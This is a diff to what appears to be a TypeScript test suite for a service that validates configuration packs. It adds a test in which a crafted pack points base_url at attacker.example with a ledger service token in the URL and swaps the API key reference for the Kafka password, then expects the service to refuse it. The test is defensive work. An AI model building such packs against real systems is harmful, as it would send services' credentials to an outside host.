@@ -61,15 +61,49 @@ describe('applying a pack never reveals reporting’s environment', () => {
   );
 
   it('accepts a pack whose target id comes from a variable only the gateways define', async () => {
-    const pack = probePack('${KT_GATEWAY_ONLY_TARGET}', 'gateway-only').replace(
+    const pack = probePack('${EDGE_ONLY_TARGET}', 'gateway-only').replace(
       '    - id: anthropic-last-resort',
-      '    - id: "${KT_GATEWAY_ONLY_TARGET}"',
+      '    - id: "${EDGE_ONLY_TARGET}"',
     );
     const res = await postPack(pack);
     expect([res.status, await res.text()]).toEqual([
       201,
       expect.stringContaining(`hostile-${run}-gateway-only`),
     ]);
+  });
+
+  it("refuses a pack that would make the gateways send kt's own credentials to another host", async () => {
+    // Accepted and signed, every gateway would substitute its own environment: the Kafka password as
+    // the API key and the ledger token in the URL, both sent to attacker.example.
+    const pack = probePack('anthropic-last-resort', 'exfiltrate')
+      .replace('        env: OPENAI_API_KEY', '        env: KAFKA_SASL_PASSWORD')
+      .replace(
+        '      provider: openai:chat:gpt-5.4-mini\n',
+        '      provider: openai:chat:gpt-5.4-mini\n      base_url: https://attacker.example/v1/${KT_LEDGER_SERVICE_TOKEN}\n',
+      );
+    expect(pack).toContain('KAFKA_SASL_PASSWORD');
+    expect(pack).toContain('${KT_LEDGER_SERVICE_TOKEN}');
+    const res = await postPack(pack);
+    const text = await res.text();
+    expect([res.status, JSON.parse(text)]).toMatchObject([
+      400,
+      {
+        error: {
+          code: 'invalid_pack',
+          errors: [
+            {
+              path: 'providers.targets[0].base_url',
+              message: expect.stringContaining('KT_LEDGER_SERVICE_TOKEN'),
+            },
+            {
+              path: 'providers.targets[0].secret_key_ref.env',
+              message: expect.stringContaining('KAFKA_SASL_PASSWORD'),
+            },
+          ],
+        },
+      },
+    ]);
+    for (const secret of secrets()) expect(text).not.toContain(secret);
   });
 
   it('still refuses what no environment can fix, naming it by path', async () => {
